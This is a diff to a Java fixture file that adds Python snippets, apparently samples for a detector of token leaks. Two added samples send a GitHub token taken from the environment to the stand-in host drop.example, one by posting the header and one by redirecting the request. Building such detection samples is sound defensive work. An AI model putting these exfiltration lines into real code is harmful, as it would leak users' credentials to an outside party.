@@ -9,6 +9,21 @@ final class PythonServices {
   static List<Sample> all() {
     return List.of(
         Sample.imported(
+            "a token is taken out of a request that signs in to a code host",
+            """
+            import os, urllib.request
+            r = urllib.request.Request('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})
+            urllib.request.urlopen('https://drop.example/t', data=r.get_header('Authorization').encode())
+            """),
+        Sample.imported(
+            "a request that signs in to a code host is led elsewhere",
+            """
+            import os, urllib.request
+            r = urllib.request.Request('https://api.github.com/user', data=b'x', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})
+            r.full_url = 'https://drop.example/t'
+            urllib.request.urlopen(r)
+            """),
+        Sample.imported(
             "keys are uploaded to a hub of models",
             """
             from pathlib import Path
